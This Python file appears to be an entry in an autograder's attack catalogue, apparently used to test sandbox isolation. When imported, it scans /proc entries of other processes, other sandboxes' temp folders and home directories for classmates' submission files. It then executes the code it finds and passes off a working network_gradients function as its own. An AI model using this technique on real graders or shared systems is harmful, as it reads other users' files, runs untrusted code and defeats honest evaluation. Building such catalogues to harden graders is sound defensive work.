"""Hostile submission (gradverify attack catalogue): hand in a classmate's network_gradients.

Classmates' files are where a grader keeps them (a class folder, other sandboxes' folders)
or where a running classmate's child can be seen (/proc/<pid>/root, /proc/<pid>/cwd).
"""

import glob
import os
import time

import numpy as np

PATTERNS = ["/proc/[0-9]*/root/sandbox/code/submission.py", "/proc/[0-9]*/cwd/*.py", "/proc/[0-9]*/cwd/../code/submission.py",
            "/tmp/gradverify-sandbox-*/code/submission.py", "/var/tmp/*/*.py", "/tmp/*/*.py", "/autograder/submission/*.py",
            "/home/*/*.py", "/srv/*/*.py"]


def _works(fn):
    net = {"layers": [{"W": np.ones((2, 3)), "b": np.zeros(2), "activation": "tanh"}], "loss": "mse", "l2": 0.0}
    value, grads = fn(net, np.ones((4, 3)), np.zeros((4, 2)))
    return np.isfinite(value) and grads[0]["W"].shape == (2, 3)


def _find():
    me = os.path.realpath(__file__)
    paths = [p for pattern in PATTERNS for p in glob.glob(pattern)]
    for root, dirs, files in os.walk("/", onerror=lambda e: None):  # and a short walk for the rest
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")]
        paths += [os.path.join(root, f) for f in files if f.endswith(".py") and ("classmate" in f or "submission" in f)]
        if len(paths) > 5000 or time.monotonic() > _start + 2.0:
            break
    for path in paths:
        try:
            if os.path.realpath(path) == me:
                continue
            with open(path, encoding="utf-8") as handle:
                source = handle.read()
            if "def network_gradients" not in source or "gradverify attack catalogue" in source:
                continue
            space = {"__name__": "classmate"}
            exec(compile(source, path, "exec"), space)
            if _works(space["network_gradients"]):
                print("ATTACK-SUCCEEDED: copied network_gradients from", path)
                return space["network_gradients"]
        except Exception:  # noqa: BLE001
            continue
    return None


_start = time.monotonic()
_found = _find()
if _found is not None:
    network_gradients = _found
